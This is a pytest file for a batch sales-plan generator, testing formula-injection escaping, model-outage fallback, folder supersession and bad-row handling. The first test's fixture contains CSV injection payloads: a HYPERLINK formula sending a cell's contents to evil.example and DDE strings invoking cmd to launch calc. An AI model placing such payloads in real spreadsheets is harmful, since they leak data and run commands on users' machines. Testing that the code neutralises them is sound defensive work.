"""Batch under hostile and careless input (issue 15): formulas in region names, a model that is down, a second sheet
into the same folder, a bad row. Each story runs the real batch job (offline drafter unless said otherwise)."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from typer.testing import CliRunner

from assistant.batch.run import MANIFEST, SUMMARY_CSV, SUMMARY_MD, SUPERSEDED, BatchOptions, run_batch, spreadsheet_safe
from assistant.config import Settings
from assistant.drafting.drafter import OfflineDrafter

pytestmark = pytest.mark.slow

COMPANY = Path(__file__).parent / "fixtures" / "batch" / "company.yaml"


@pytest.fixture()
def settings(tmp_path) -> Settings:
    return Settings(data_dir=tmp_path / "data", llm_model=None, llm_base_url=None)


def sheet(tmp_path: Path, name: str, text: str) -> Path:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


def run(regions: Path, out: Path, settings: Settings, drafter=None, **options):
    opts = BatchOptions(out_dir=out, formats=["md"], concurrency=1, **options)
    return run_batch(regions, COMPANY, opts, settings=settings, drafter=drafter)


def rows(out: Path) -> list[dict[str, str]]:
    with open(out / SUMMARY_CSV, encoding="utf-8-sig", newline="") as fh:
        return list(csv.DictReader(fh))


def test_region_names_that_look_like_formulas_reach_the_spreadsheet_as_text(tmp_path, settings):
    regions = sheet(tmp_path, "inject.csv",
                    '区域,市场潜力,去年销售额,人数,负责人\n'
                    '"=HYPERLINK(""http://evil.example/?x=""&A1,""点我"")",100,800,4,张三\n'
                    '"+cmd|\' /C calc\'!A0",90,700,3,"@SUM(1+1)*cmd|\' /C calc\'!A0"\n'
                    '-2+3,80,600,3,李四\n'
                    '江苏,120,900,5,王五\n')
    out = tmp_path / "out"
    result = run(regions, out, settings)
    assert result.exit_code == 0
    cells = {r["区域"]: r["负责人"] for r in rows(out)}
    assert cells == {"'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点我\")": "张三",
                     "'+cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
                     "'-2+3": "李四", "江苏": "王五"}
    assert [r["增长率"] for r in rows(out)] != [], "the numeric columns are still there"


def test_numbers_stay_numbers_and_every_formula_start_is_neutralised():
    assert [spreadsheet_safe(v) for v in ("-12.5", "-3%", "+8", "1,200", "江苏")] == ["-12.5", "-3%", "+8", "1,200",
                                                                                     "江苏"]
    assert [spreadsheet_safe(v) for v in ("=1+1", "+A1", "-A1", "@A1", "\tx", "\rx", "＝1+1")] == \
        ["'=1+1", "'+A1", "'-A1", "'@A1", "'\tx", "'\rx", "'＝1+1"]


class DownModel(OfflineDrafter):
    """A model drafter whose endpoint is down: every section comes from the offline drafter, marked fallback."""

    uses_model = True
    key = "qwen@v1"
    label = "qwen @ 127.0.0.1:9"

    def __init__(self, down: bool = True):
        self.down = down

    def draft(self, request, figures, *, progress=None):
        plan = super().draft(request, figures, progress=progress)
        if self.down:
            for run_ in plan.metadata.sections.values():
                run_.status, run_.fallback_reason = "fallback", "无法连接模型服务"
        return plan


def test_plans_written_while_the_model_was_down_are_retried_on_the_next_run(tmp_path, settings):
    regions = sheet(tmp_path, "two.csv", "区域,市场潜力,去年销售额,人数\n江苏,120,900,5\n浙江,100,800,4\n")
    out = tmp_path / "out"
    first = run(regions, out, settings, drafter=DownModel())
    assert first.exit_code == 1 and {o.status for o in first.outcomes} == {"fallback"}
    assert (out / "regions" / "江苏" / "江苏_销售方案.md").is_file(), "the files are there to read"
    summary = (out / SUMMARY_MD).read_text(encoding="utf-8")
    assert "部分章节离线兜底 2" in summary and "16 节由离线起草器代写（无法连接模型服务）" in summary
    assert [r["状态"] for r in rows(out)] == ["部分章节离线兜底"] * 2

    again = run(regions, out, settings, drafter=DownModel())
    assert {o.status for o in again.outcomes} == {"fallback"}, "not reused as finished"
    recovered = run(regions, out, settings, drafter=DownModel(down=False))
    assert recovered.exit_code == 0 and {o.status for o in recovered.outcomes} == {"done"}
    manifest = json.loads((out / "regions" / "江苏" / MANIFEST).read_text(encoding="utf-8"))
    assert manifest["fallbacks"] == []
    assert {o.status for o in run(regions, out, settings, drafter=DownModel(down=False)).outcomes} == {"skipped"}


def test_a_second_sheet_into_the_same_folder_leaves_only_its_own_regions_beside_its_summary(tmp_path, settings):
    out = tmp_path / "out"
    run(sheet(tmp_path, "a.csv", "区域,市场潜力\n江苏,120\n浙江,100\n安徽,80\n"), out, settings)
    result = run(sheet(tmp_path, "b.csv", "区域,市场潜力\n江苏,120\n福建,90\n"), out, settings)
    assert sorted(p.name for p in (out / "regions").iterdir()) == ["江苏", "福建"]
    assert sorted(result.superseded) == ["安徽", "浙江"]
    [moved] = list((out / SUPERSEDED).iterdir())
    assert sorted(p.name for p in moved.iterdir()) == ["安徽", "浙江"], "moved, not deleted"
    assert "已移到 superseded/ 下：安徽、浙江" in (out / SUMMARY_MD).read_text(encoding="utf-8")
    assert [r["区域"] for r in rows(out)] == ["江苏", "福建"]


def test_a_bad_row_keeps_its_share_and_fixing_it_leaves_the_other_plans_alone(tmp_path, settings):
    header = "区域,市场潜力,去年销售额,人数,客单价\n"
    bad = sheet(tmp_path, "bad.csv", header + "江苏,120,900,5,15\n浙江,100,800,4,12\n安徽,80,600,3,很多\n")
    fixed = sheet(tmp_path, "fixed.csv", header + "江苏,120,900,5,15\n浙江,100,800,4,12\n安徽,80,600,3,10\n")
    out = tmp_path / "out"
    first = run(bad, out, settings)
    targets = {o.region: o.target for o in first.outcomes}
    assert first.exit_code == 1 and sum(targets.values()) == 10000
    summary = (out / SUMMARY_MD).read_text(encoding="utf-8")
    assert f"未分配：{targets['安徽']:,.2f}万元（第4行「安徽」" in summary
    assert "份额暂不分给其他区域" in summary

    second = run(fixed, out, settings)
    assert {o.region: o.target for o in second.outcomes} == targets
    assert {o.region: o.status for o in second.outcomes} == {"江苏": "skipped", "浙江": "skipped", "安徽": "done"}

    spread = run(bad, tmp_path / "spread", settings, reallocate_failed=True)
    spread_targets = {o.region: o.target for o in spread.outcomes}
    assert spread_targets["安徽"] is None and spread_targets["江苏"] + spread_targets["浙江"] == 10000
    assert "按 --reallocate-failed，第4行「安徽」（有问题未起草）的份额已分给其他区域" in \
        (tmp_path / "spread" / SUMMARY_MD).read_text(encoding="utf-8")


def test_the_cli_says_what_is_unallocated_and_offers_the_switch(tmp_path):
    from assistant.cli.main import app

    bad = sheet(tmp_path, "bad.csv", "区域,市场潜力,人数\n江苏,120,5\n安徽,80,abc\n")
    result = CliRunner().invoke(app, ["batch", str(bad), "-c", str(COMPANY), "-o", str(tmp_path / "out"),
                                      "--offline", "-f", "md"])
    assert result.exit_code == 1, result.output
    said = result.output.replace("\n", "")  # rich wraps long lines
    assert "目标合计 5,666.67万元；未分配 4,333.33万元（有问题的行的份额）" in said
    spread = CliRunner().invoke(app, ["batch", str(bad), "-c", str(COMPANY), "-o", str(tmp_path / "spread"),
                                      "--offline", "-f", "md", "--reallocate-failed"])
    assert spread.exit_code == 1 and "目标合计 10,000万元；耗时" in spread.output.replace("\n", "")
